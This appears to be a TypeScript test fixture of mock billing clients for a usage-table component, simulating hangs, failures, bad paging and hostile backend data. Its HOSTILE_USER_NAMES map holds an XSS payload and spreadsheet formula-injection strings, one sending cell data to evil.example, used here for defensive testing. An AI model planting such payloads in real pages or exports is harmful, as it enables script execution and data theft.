// Fixture BillingClients for <balance-usage-table>: sizes, failures and hostile backend text; shared by its stories, tests and bench.
import type { RequestOptions } from '../src/client/billing-client.js';
import { MockBillingClient, type MockBillingClientOptions } from '../src/client/mock/mock-client.js';
import type { UsageEntry, UsageFilters, UsagePage, UsageQuery, UsageSummary, UsageUser } from '../src/client/schemas.js';
import type { UsageTableQuery } from '../src/components/balance-usage-table/usage-query.js';

/** The mock seeds usage over the last 90 days; this custom range covers all of it in any zone. */
export function allHistoryQuery(overrides: Partial<UsageTableQuery> = {}): Partial<UsageTableQuery> {
  const day = (offsetDays: number) => new Date(Date.now() + offsetDays * 86_400_000).toISOString().slice(0, 10);
  return { period: 'custom', from: day(-92), to: day(1), ...overrides };
}

/** A mock with `count` seeded entries spread over the last 90 days. */
export function usageClient(count: number, options: MockBillingClientOptions = {}): MockBillingClient {
  return new MockBillingClient({ usageEntryCount: count, seed: 7, ...options });
}

/** Names a hostile or careless backend might send: markup, formulas, quotes, commas, newlines. */
export const HOSTILE_USER_NAMES: Readonly<Record<string, string>> = {
  usr_dana_whitfield: '<img src=x onerror=alert(1)>',
  usr_marcus_oyelaran: '=HYPERLINK("https://evil.example/?q="&A1,"Click me")',
  usr_priya_raman: 'Raman, "Priya"\nFinance team',
  usr_tomas_herrera: '+1 555 0100',
  usr_kenji_watanabe: '@SUM(A1:A9)',
  usr_ingrid_solberg: '-2+3',
};

/**
 * The mock with its users renamed to {@link HOSTILE_USER_NAMES}: the ledger, filters and paging are
 * the real ones; only the names the backend returns change.
 */
export class HostileUsageClient extends MockBillingClient {
  private rename(user: UsageUser): UsageUser {
    return { id: user.id, name: HOSTILE_USER_NAMES[user.id] ?? user.name };
  }

  private renameEntry(entry: UsageEntry): UsageEntry {
    return { ...entry, user: this.rename(entry.user) };
  }

  override async listUsage(query: UsageQuery, options?: RequestOptions): Promise<UsagePage> {
    const page = await super.listUsage(query, options);
    return { ...page, entries: page.entries.map((entry) => this.renameEntry(entry)) };
  }

  override async getUsageSummary(filters: UsageFilters, options?: RequestOptions): Promise<UsageSummary> {
    const summary = await super.getUsageSummary(filters, options);
    return { ...summary, users: summary.users.map((user) => this.rename(user)) };
  }

  override async getUsageEntry(entryId: string, options?: RequestOptions): Promise<UsageEntry> {
    return this.renameEntry(await super.getUsageEntry(entryId, options));
  }
}

export function hostileUsageClient(count = 40): HostileUsageClient {
  return new HostileUsageClient({ usageEntryCount: count, seed: 7 });
}

/** Usage reads never answer (until aborted): the loading skeleton. */
export function hangingUsageClient(): MockBillingClient {
  const client = usageClient(50);
  const hang = <T>(options?: RequestOptions) =>
    new Promise<T>((_resolve, reject) => {
      options?.signal?.addEventListener('abort', () => reject(options.signal?.reason), { once: true });
    });
  client.getUsageSummary = (_filters, options) => hang<UsageSummary>(options);
  client.listUsage = (_query, options) => hang<UsagePage>(options);
  return client;
}

/** The summary fails `times` times with "unavailable", then answers. */
export function failingUsageClient(times = 1_000_000): MockBillingClient {
  const client = usageClient(50);
  client.failNext('getUsageSummary', times, 'unavailable');
  return client;
}

/**
 * A backend whose totalCount says `counted` while its pages hold only `held` entries: every listUsage answers the first
 * `held` entries of the sort with no next page, and counts `counted`. The summary is the mock's (it counts `counted`).
 */
export function overcountedUsageClient(held = 20, counted = 500): MockBillingClient {
  const client = usageClient(counted);
  const listUsage = client.listUsage.bind(client);
  client.listUsage = async (query, options) => {
    const page = await listUsage({ ...query, cursor: undefined, limit: Math.min(query.limit ?? 100, held) }, options);
    return { entries: page.entries, nextCursor: null, totalCount: counted };
  };
  return client;
}

/**
 * A backend that goes round in circles: every listUsage answers the first full page of the sort with the same
 * nextCursor, whatever cursor it was given. `repeating = false` makes it the honest mock again.
 */
export function repeatingCursorUsageClient(count = 500): MockBillingClient & { repeating: boolean } {
  const client = Object.assign(usageClient(count), { repeating: true });
  const listUsage = client.listUsage.bind(client);
  client.listUsage = async (query, options) => {
    if (!client.repeating) return listUsage(query, options);
    const page = await listUsage({ ...query, cursor: undefined }, options);
    return { ...page, nextCursor: 'the-same-cursor' };
  };
  return client;
}
